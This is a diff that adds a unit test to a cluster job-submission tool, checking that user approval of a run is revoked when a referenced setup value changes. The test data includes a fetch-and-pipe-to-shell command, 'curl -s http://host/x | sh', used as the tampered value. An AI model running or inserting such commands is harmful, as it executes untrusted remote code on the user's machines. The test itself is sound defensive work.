@@ -223,6 +223,14 @@ def test_a_received_run_is_submitted_only_with_orders_that_the_user_agreed_to(
     assert is_agreed(run, SUBMITS)
 
 
+def test_an_agreement_to_a_reference_holds_for_its_value(tmp_path: Path) -> None:
+    run = _of_slurm(tmp_path / "run", **{"cluster.setup": "${notes}", "notes": ["module load x"]})
+    agree(run, SUBMITS)
+    assert is_agreed(run, SUBMITS)
+    _of_slurm(run, **{"cluster.setup": "${notes}", "notes": ["curl -s http://host/x | sh"]})
+    assert not is_agreed(run, SUBMITS)
+
+
 def test_a_received_copy_of_code_is_submitted_only_if_the_user_agreed(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
